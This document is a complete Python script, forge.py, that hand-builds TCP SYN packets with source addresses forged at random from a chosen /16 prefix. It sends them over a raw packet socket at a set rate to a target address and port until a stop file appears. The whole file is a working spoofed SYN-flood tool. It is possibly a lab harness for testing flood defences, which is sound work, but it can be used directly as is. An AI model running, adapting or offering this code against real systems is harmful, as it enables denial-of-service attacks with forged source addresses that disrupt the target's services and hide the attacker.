#!/usr/bin/python3
# SPDX-License-Identifier: Apache-2.0
"""SYNs that nobody sent.

usage: forge.py INTERFACE MAC ADDRESS PORT PREFIX RATE ENOUGH

To ADDRESS and PORT, behind MAC, RATE of them per second, each from a random port and address of
PREFIX, which is two numbers (172.21), until the file ENOUGH exists. Prints how many.
"""
import os
import random
import socket
import struct
import sys
import time

SLICE = 0.01  # seconds


def checksum(data):
    total = sum(struct.unpack(f"!{len(data) // 2}H", data))
    total = (total & 0xFFFF) + (total >> 16)
    return ~((total & 0xFFFF) + (total >> 16)) & 0xFFFF


def syn(source, destination, port):
    ip = struct.pack("!BBHHHBBH4s4s", 0x45, 0, 40, 0, 0, 64, socket.IPPROTO_TCP, 0, source, destination)
    tcp = struct.pack("!HHIIBBHHH", random.randrange(1024, 65536), port, random.getrandbits(32), 0,
                      5 << 4, 0x02, 64240, 0, 0)
    pseudo = source + destination + struct.pack("!HH", socket.IPPROTO_TCP, len(tcp))
    return (ip[:10] + struct.pack("!H", checksum(ip)) + ip[12:] +
            tcp[:16] + struct.pack("!H", checksum(pseudo + tcp)) + tcp[18:])


def main():
    interface, mac, address, port, prefix, rate, enough = sys.argv[1:]
    destination = socket.inet_aton(address)
    network = bytes(int(number) for number in prefix.split("."))
    sent = 0
    with socket.socket(socket.AF_PACKET, socket.SOCK_RAW) as s:
        s.bind((interface, 0))
        ethernet = bytes.fromhex(mac.replace(":", "")) + s.getsockname()[4] + b"\x08\x00"
        while not os.path.exists(enough):
            for _ in range(int(int(rate) * SLICE)):
                s.send(ethernet + syn(network + random.randbytes(2), destination, int(port)))
                sent += 1
            time.sleep(SLICE)
    print(sent)


main()
